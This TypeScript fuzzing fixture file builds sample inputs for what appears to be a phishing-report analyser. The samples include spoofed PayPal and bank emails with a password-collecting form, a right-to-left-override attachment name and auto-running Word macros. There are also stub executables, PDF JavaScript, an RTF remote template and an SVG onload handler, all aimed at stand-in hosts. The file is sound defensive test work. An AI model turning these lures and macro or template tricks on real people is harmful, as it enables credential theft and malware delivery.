import { gzipSync } from 'node:zlib';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { toBuffer } from 'qrcode';
import type { SlackMail, Specimen } from '../../src/model.ts';
import { office, ole, relationships, vbaProject, vbaStreams } from '../helpers/office.ts';
import { zip } from '../helpers/zip.ts';

/** One thing to break: its bytes, how they are handed in once broken, and how much of the fuzzing it gets. */
export interface Fixture {
  name: string;
  bytes: Buffer;
  /** Inputs made of it for each hundred of the cheapest; what is slow to read gets fewer. */
  share: number;
  specimen(bytes: Buffer): Specimen;
}

const asMail = (bytes: Buffer): Specimen => ({ kind: 'mail', bytes, name: 'mail.eml' });
const asText = (bytes: Buffer): Specimen => ({ kind: 'text', text: bytes.toString(), links: [] });
const asLink = (bytes: Buffer): Specimen => ({ kind: 'link', url: bytes.toString() });
const asFile =
  (name: string) =>
  (bytes: Buffer): Specimen => ({ kind: 'file', bytes, name });

const crlf = (...lines: string[]): Buffer => Buffer.from(lines.join('\r\n'));

const HTML =
  '<html><body style="color:#fff;background:#fff"><p>Your <b>account</b> is limited</p><a href="https://evil.example/x?u=1">https://www.paypal.com</a>' +
  '<form action="https://collect.example"><input type="password" name="p"></form><img src="cid:logo" alt="x"><div style="display:none">salad</div>' +
  '<table><tr><td>a<td>b</table><svg><a xlink:href="https://b.example"><text>c</text></a></svg><!--[if mso]><a href="https://c.example">d</a><![endif]--></body></html>';

const head = [
  'Received: from relay.example (192.0.2.7) by mx.hospital.example; Mon, 2 Feb 2026 10:00:00 +0000',
  'Authentication-Results: mx.hospital.example; spf=fail smtp.mailfrom=evil.example; dkim=none; dmarc=fail header.from=bank.example',
  'From: =?utf-8?Q?PayPal=20Support?= <service@evil.example>',
  'Reply-To: "Collect (office)" <collect@inbox.test>, group: a@a.test, b@b.test;',
  'To: nurse@hospital.example',
  'Subject: =?gb2312?B?1cu6xdLs?= =?utf-8?B?5aSx6LSl?=',
  'Date: Mon, 2 Feb 2026 10:00:00 +0800',
  'MIME-Version: 1.0',
];

const plain = crlf(
  ...head,
  'Content-Type: text/plain; charset=utf-8',
  '',
  'Please verify at hxxps://evil[.]example/login or www.b.example, 请访问evil.example/登录。',
);
const multipart = crlf(
  ...head,
  'Content-Type: multipart/mixed; boundary="edge"',
  '',
  '--edge',
  'Content-Type: multipart/alternative; boundary=inner',
  '',
  '--inner',
  'Content-Type: text/plain; charset=gb18030',
  'Content-Transfer-Encoding: quoted-printable',
  '',
  '=C4=FA=B5=C4=D5=CA=BA=C5=\r\n soft',
  '--inner',
  'Content-Type: text/html; charset=utf-8',
  'Content-Transfer-Encoding: base64',
  '',
  (
    Buffer.from(HTML)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n'),
  '--inner--',
  '--edge',
  'Content-Type: application/octet-stream; name*0*=utf-8\'\'a%20; name*1="b.zip"',
  'Content-Disposition: attachment; filename="../a\u202egpj.exe"',
  'Content-Transfer-Encoding: base64',
  '',
  zip([{ name: 'a.exe', content: 'MZ' }]).toString('base64'),
  '--edge',
  'Content-Type: message/rfc822',
  '',
  'From: eve@evil.example',
  'Subject: inner',
  '',
  'inner words',
  '--edge--',
);
const forward = crlf(
  'From: Bo <bo@hospital.example>',
  'To: report@hospital.example',
  'Subject: Fwd: Invoice',
  '',
  'Is this real?',
  '',
  '---------- Forwarded message ---------',
  'From: Supplier <billing@supplier.example>',
  'Date: Mon, 2 Feb 2026 at 09:00',
  'Subject: Invoice',
  'To: <bo@hospital.example>',
  '',
  'Our bank details have changed: https://pay.example',
);
const pasted = Buffer.from(
  '发件人: "账户安全" <a@evil.example>\n发送时间: 2026年2月2日\n收件人: b@hospital.example\n主题: 密码过期\n\n请点击 http://evil.example/\u200bx 立即验证。WIRE 50,000 today',
);
const link = Buffer.from(
  'https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Furldefense.com%2Fv3%2F__https%3A*2F*2Fevil.example__%3BJSU!&data=05',
);
const slackMail = Buffer.from(
  JSON.stringify({
    id: 'F0MAIL',
    subject: 'Fwd: Invoice',
    from: [{ address: 'bo@hospital.example', name: 'Bo' }],
    to: [{ address: 'report@hospital.example' }],
    cc: [],
    plainText: forward.toString(),
    headers: { date: 'Mon, 2 Feb 2026 10:00:00 +0000', replyTo: 'x <x@x.example>', messageId: '<1@x.example>' },
    attachments: [{ name: 'a.html', type: 'text/html' }],
  } satisfies SlackMail),
);

/** A payload that is no payload any more never gets past the Slack side: its words then stand in a valid one. */
function asSlackMail(bytes: Buffer): Specimen {
  const text = bytes.toString();
  const mail = JSON.parse(slackMail.toString()) as SlackMail;
  mail.attachments = [{ name: text.slice(0, 40), bytes }];
  mail.headers.replyTo = text.slice(0, 400);
  return { kind: 'slack-mail', mail: { ...mail, subject: text.slice(0, 80), plainText: text }, html: `<p>${text}` };
}

async function pdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage().drawText('Open https://evil.example', { font });
  document.addJavaScript('a', 'app.alert(1)');
  await document.attach(Buffer.from('hello'), 'a.txt');
  return Buffer.from(await document.save());
}

/** An Outlook message as far as its container goes: the properties that a reader asks for first. */
function outlookMail(): Buffer {
  const words = (text: string): Buffer => Buffer.from(text, 'utf16le');
  return ole({
    '__nameid_version1.0/__substg1.0_00020102': Buffer.alloc(16),
    '__properties_version1.0': Buffer.alloc(64, 1),
    '__substg1.0_001A001F': words('IPM.Note'),
    '__substg1.0_0037001F': words('Your account'),
    '__substg1.0_0C1F001F': words('service@evil.example'),
    '__substg1.0_007D001F': words('From: a <service@evil.example>\r\nSubject: Your account\r\n'),
    '__substg1.0_1000001F': words('Verify at https://evil.example/login'),
    '__substg1.0_10130102': Buffer.from(HTML),
    '__recip_version1.0_#00000000/__properties_version1.0': Buffer.alloc(24, 1),
    '__attach_version1.0_#00000000/__substg1.0_37010102': Buffer.from('MZ'),
    '__attach_version1.0_#00000000/__substg1.0_3707001F': words('a.exe'),
  });
}

const macro = 'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub';

/** Everything that people hand in, once each, written for this project. */
export async function fixtures(): Promise<Fixture[]> {
  const png = await toBuffer('https://evil.example', { width: 60 });
  const docm = office('docm', 'hello', [
    relationships([{ type: 'hyperlink', target: 'https://evil.example' }]),
    { name: 'word/vbaProject.bin', content: vbaProject(macro), stored: true },
  ]);
  const doc = ole({ WordDocument: Buffer.alloc(6_000, 'hello '), ...vbaStreams(macro, { folder: 'Macros/' }) });
  const nested = zip([{ name: 'in.zip', content: zip([{ name: 'a.exe', content: 'MZ' }]) }]);
  const rtf = Buffer.from('{\\rtf1{\\*\\template http://evil.example}\\u35831?{\\object\\objdata 00}{\\field x}}');
  const ics = crlf('BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'URL:https://evil.example/', ' x', 'END:VEVENT', 'END:VCALENDAR');
  const svg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><a href="https://b.example">d</a></svg>',
  );
  const list: [name: string, share: number, bytes: Buffer, specimen: Fixture['specimen']][] = [
    ['plain mail', 100, plain, asMail],
    ['multipart mail', 60, multipart, asMail],
    ['forwarded mail', 100, forward, asMail],
    ['pasted text', 100, pasted, asText],
    ['pasted source', 60, multipart, asText],
    ['link', 100, link, asLink],
    ['Slack mail', 60, slackMail, asSlackMail],
    ['Outlook mail', 100, outlookMail(), (bytes) => ({ kind: 'mail', bytes, name: 'mail.msg' })],
    ['zip', 100, nested, asFile('a.zip')],
    ['Office package', 60, docm, asFile('a.docm')],
    ['compound file', 100, doc, asFile('a.doc')],
    ['PDF', 10, await pdf(), asFile('a.pdf')],
    ['picture', 40, png, asFile('a.png')],
    ['web page', 100, Buffer.from(HTML), asFile('a.html')],
    ['drawing', 100, svg, asFile('a.svg')],
    ['invitation', 100, ics, asFile('a.ics')],
    ['rich text', 100, rtf, asFile('a.rtf')],
    ['gzip', 100, gzipSync(multipart), asFile('a.gz')],
  ];
  return list.map(([name, share, bytes, specimen]) => ({ name, share, bytes, specimen }));
}
